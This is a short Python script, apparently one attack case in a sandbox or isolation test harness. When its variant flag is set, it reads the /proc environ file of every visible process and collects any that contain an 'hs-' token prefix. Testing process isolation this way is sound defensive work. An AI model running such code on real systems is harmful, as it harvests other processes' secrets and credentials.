"""Reads the environment of each process it can see: parents, server, strangers."""

from __future__ import annotations

from pathlib import Path

import kit

VARIANT = 0


def attack(out: str) -> None:
    for pid in kit.pids():
        with kit.step(f"environ of {pid}"):
            data = Path(f"/proc/{pid}/environ").read_bytes()
            if b"hs-" in data:
                kit.loot(data)


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
